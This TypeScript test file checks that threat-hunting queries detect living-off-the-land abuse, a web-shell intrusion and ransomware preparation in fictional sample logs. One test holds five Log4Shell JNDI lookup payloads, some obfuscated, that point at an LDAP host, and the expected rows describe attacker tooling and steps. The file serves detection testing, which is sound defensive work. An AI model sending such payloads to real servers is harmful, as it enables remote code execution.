import path from 'node:path';
import { readSolution } from '../../src/content/read-solution';
import { openSampleWithSolutions, solutionsFolder } from '../support/sample-with-solutions';

const slugs = ['living-off-the-land', 'web-exploitation', 'ransomware-preparation'];
const fileServer = 'fh-fs01.fernhill.example';
const management = 'fh-mgmt01.fernhill.example';
const application = 'fh-app01.fernhill.example';
const backup = 'fh-bkp01.fernhill.example';
const controller = 'fh-dc01.fernhill.example';

/** By file: what a hunt over the last seven days must show in one row, and how many rows it has. */
const expected: Record<string, { row: Record<string, unknown>; rows: number }> = {
  'script-or-project-run-by-a-signed-tool': {
    row: { Host: fileServer, How: 'scriptlet through regsvr32', File: 'C:\\ProgramData\\Intel\\gfx.sct' },
    rows: 2,
  },
  'library-loaded-from-a-folder-all-can-write-to': {
    row: {
      Host: fileServer,
      Tool: 'rundll32.exe',
      LibraryName: 'igfxcfg.dll',
      LibraryFolder: 'C:\\ProgramData\\Intel',
    },
    rows: 2,
  },
  'windows-tool-under-another-name-or-in-a-new-place': {
    row: { DeviceName: management, FileName: 'gfxcmd.exe', BuiltAs: 'cmd.exe', Renamed: true, Runs: 2 },
    rows: 1,
  },
  'port-forwarded-or-opened-with-netsh': {
    row: { Host: management, ListenPort: '8443', ConnectAddress: '203.0.113.140', ToInternet: true },
    rows: 2,
  },
  'windows-tool-speaks-to-a-rare-name': {
    row: { DeviceName: management, Tool: 'msbuild.exe', Destination: 'telemetry-sync.example', Machines: 3 },
    rows: 4,
  },
  'command-started-by-a-detour': {
    row: { DeviceName: management, Detour: 'forfiles.exe', FileName: 'gfxcmd.exe', BuiltAs: 'cmd.exe' },
    rows: 1,
  },
  'content-hidden-in-a-stream-of-a-file': {
    row: { Host: management, Does: 'writes', Stream: 'C:\\ProgramData\\readme.txt:gfx' },
    rows: 1,
  },
  'one-program-starts-tools-of-many-kinds': {
    row: { Host: management, KindCount: 3, Kinds: ['looks round', 'opens the network', 'runs'] },
    rows: 5,
  },
  'scriptlet-or-project-run-by-a-signed-tool': { row: { DeviceName: management, FileName: 'MSBuild.exe' }, rows: 2 },
  'port-forwarded-to-an-address-on-the-internet': {
    row: { DeviceName: management, ConnectAddress: '203.0.113.140' },
    rows: 1,
  },
  'shell-of-windows-under-another-name': { row: { DeviceName: management, FileName: 'gfxcmd.exe', Runs: 2 }, rows: 1 },

  'request-with-a-lookup-that-was-answered': {
    row: { ClientAddress: '203.0.113.118', CallsAddress: '203.0.113.153', Requests: 3, Answered: 3, Disguised: 2 },
    rows: 1,
  },
  'server-calls-the-address-that-a-request-named': {
    row: { DeviceName: application, RemoteIP: '203.0.113.153', Ports: [1389, 8000], AskedServers: ['fh-web01'] },
    rows: 1,
  },
  'web-server-starts-a-shell-it-does-not-usually': {
    row: { DeviceName: application, WebServer: 'java.exe', Commands: 6 },
    rows: 1,
  },
  'page-written-by-the-web-server-itself': {
    row: { DeviceName: application, FolderPath: 'D:\\App\\tomcat\\webapps\\track\\img\\help.jsp' },
    rows: 1,
  },
  'page-that-one-address-alone-asks-for': {
    row: { Path: '/track/img/help.jsp', ClientAddress: '203.0.113.118', Posts: 4 },
    rows: 1,
  },
  'address-that-tries-many-pages': {
    row: { ClientAddress: '203.0.113.118', Refused: 60, AnsweredPaths: ['/track/img/help.jsp', '/track/status'] },
    rows: 1,
  },
  'new-destination-of-a-web-application': {
    row: { DeviceName: application, RemoteIP: '203.0.113.153', Connections: 4 },
    rows: 1,
  },
  'shell-seconds-after-a-request-to-one-page': {
    row: { DeviceName: application, Server: 'fh-web01', Path: '/track/img/help.jsp', Shells: 4 },
    rows: 1,
  },
  'lookup-in-a-request-was-carried-out': { row: { DeviceName: application, RemoteIP: '203.0.113.153' }, rows: 1 },
  'web-server-asks-who-it-is': {
    row: { DeviceName: application, ProcessCommandLine: 'cmd.exe /c whoami' },
    rows: 4,
  },
  'script-written-into-a-folder-of-pictures': { row: { DeviceName: application, FileName: 'help.jsp' }, rows: 1 },

  'protection-switched-off-by-a-command': {
    row: { Host: fileServer, Step: 'protection off', Excluded: 'C:\\ProgramData\\Intel' },
    rows: 2,
  },
  'many-services-stopped-at-once': {
    row: { Host: backup, Account: 'fernhill\\svc-helpdesk2', Critical: 5, Purposes: ['backup', 'database'] },
    rows: 2,
  },
  'backup-files-deleted-by-a-stranger': { row: { DeviceName: backup, Program: 'cmd.exe', Files: 84 }, rows: 1 },
  'many-files-given-one-new-ending': {
    row: { DeviceName: fileServer, Ending: '.fhlock', Files: 60, Folders: 6 },
    rows: 1,
  },
  'same-new-text-in-many-folders': {
    row: { DeviceName: fileServer, FileName: 'READ_TO_RESTORE.txt', Folders: 6 },
    rows: 1,
  },
  'program-or-task-put-in-the-domains-share': {
    row: { DeviceName: controller, FileName: 'fhupd.exe', WrittenBy: 'svc-helpdesk2', SourceAddress: '10.20.1.20' },
    rows: 2,
  },
  'one-program-reaches-the-shares-of-many-machines': {
    row: { DeviceName: fileServer, Program: 'kqzvhwbt.exe', Machines: 40 },
    rows: 1,
  },
  'next-start-into-safe-mode': { row: { Host: fileServer, WithNetwork: true }, rows: 1 },
  'several-preparations-on-one-machine': {
    row: {
      Host: fileServer,
      Steps: ['firewall off', 'log cleared', 'protection off', 'recovery off', 'safe mode'],
    },
    rows: 1,
  },
  'backup-and-database-services-stopped-together': { row: { Host: backup, Stopped: 5 }, rows: 2 },
  'files-get-one-more-ending-in-bulk': { row: { DeviceName: fileServer, Ending: '.fhlock', Files: 60 }, rows: 1 },
  'scheduled-task-written-into-a-domain-policy': {
    row: { DeviceName: controller, FileName: 'ScheduledTasks.xml', WrittenBy: 'svc-helpdesk2' },
    rows: 1,
  },
};

describe('living off the land, web exploitation and ransomware preparation on the sample logs', () => {
  const items = slugs
    .map((slug) => readSolution(path.join(solutionsFolder, slug)))
    .flatMap((one) => [...one.queries, ...one.rules])
    .map((item) => [path.basename(item.source, '.yaml'), item] as const);
  let sample: Awaited<ReturnType<typeof openSampleWithSolutions>>;

  beforeAll(async () => {
    sample = await openSampleWithSolutions(slugs);
  }, 120_000);

  afterAll(() => sample?.close());

  it('has an expectation here', () => {
    expect(items.map(([file]) => file).sort()).toEqual(Object.keys(expected).sort());
  });

  it.each(items)('%s finds its traces and nothing else', async (file, item) => {
    const rows = await sample.hunt(item.query);
    expect(rows).toContainEqual(expect.objectContaining(expected[file]?.row ?? {}));
    expect(rows).toHaveLength(expected[file]?.rows ?? 0);
    for (const { columnName } of item.entityMappings.flatMap((mapping) => mapping.fieldMappings)) {
      const values = rows.map((row) => row[columnName]).filter((value) => value !== '' && value !== null);
      expect([columnName, values.length]).not.toEqual([columnName, 0]);
    }
  });

  it('folds a start that Defender and the Security log both report into one row', async () => {
    const rows = await sample.hunt(
      `TalbotToolRuns | where Host == "${management}" and Tool == "netsh.exe" | project ProcessId, Sources`,
    );
    expect(rows.map((row) => row.Sources)).toEqual([
      ['Defender', 'Security log'],
      ['Defender', 'Security log'],
    ]);
  });

  it('leaves a listed tool user out on the own machine only', async () => {
    const users = await sample.hunt(`TalbotToolRuns
      | where isnotempty(Kind)
      | summarize Kinds = dcount(Kind) by Account, Host
      | where Kinds >= 3 and Account in ((_GetWatchlist("TalbotToolUsers") | project Account))`);
    expect(users.length).toBeGreaterThan(0);
    const found = await sample.hunt(items.find(([file]) => file.startsWith('one-program-starts'))?.[1].query ?? '');
    expect(found.filter((row) => users.some((user) => user.Account === row.Account))).toEqual([]);
  });

  it('reads every line of the web server’s log', async () => {
    const [lines] = await sample.hunt('Syslog | where ProcessName == "nginx" | count');
    const [requests] = await sample.hunt(`TalbotWebRequests
      | summarize Count = count(), Sound = countif(isnotnull(Status) and Path startswith "/" and ClientAddress matches regex @"^[0-9.]+$")`);
    expect(requests).toEqual({ Count: lines?.Count, Sound: lines?.Count });
  });

  it.each([
    ['/?x=#{jndi:ldap://198.51.100.7:1389/a}'],
    ['/?x=#%7Bjndi:ldap://198.51.100.7/a%7D'],
    ['/?x=#{#{lower:j}#{lower:n}d#{upper:i}:#{lower:ldap}://198.51.100.7/a}'],
    ['/?x=#{#{::-j}#{::-n}#{::-d}#{::-i}:#{::-l}dap://198.51.100.7/a}'],
    ['/?x=#{#{env:NOTHING:-j}ndi#{sys:x:-:}ldap://198.51.100.7/a}'],
  ])('sees the lookup in %s, with $ for #', async (marked) => {
    const uri = marked.replaceAll('#', '$');
    const body = sample.solutions
      .flatMap((one) => one.parsers)
      .find(({ functionName }) => functionName === 'TalbotWebRequests')?.body;
    const line = `198.51.100.7 - - "GET ${uri} HTTP/1.1" 200 12 "-" "Mozilla/5.0"`;
    const rows = await sample.hunt(`
      let Syslog = datatable(TimeGenerated: datetime, Computer: string, ProcessName: string, SyslogMessage: string)
          [datetime(2026-11-23 10:00), "web", "nginx", '${line}'];
      ${body}
      | project Found = Plain contains "\${jndi:ldap://198.51.100.7"`);
    expect(rows).toEqual([{ Found: true }]);
  });

  it('is quiet about backups that their own program prunes, and about the new version of a Tuesday', async () => {
    const [pruned] = await sample.hunt(
      'DeviceFileEvents | where ActionType == "FileDeleted" and FileName endswith ".njb" and InitiatingProcessFileName == "njbackup.exe" | count',
    );
    expect(pruned?.Count).toBeGreaterThan(30);
    const [pages] = await sample.hunt(
      'DeviceFileEvents | where FileName endswith ".jsp" and InitiatingProcessFileName == "java.exe" | count',
    );
    expect(pages?.Count).toBe(3);
  });
});
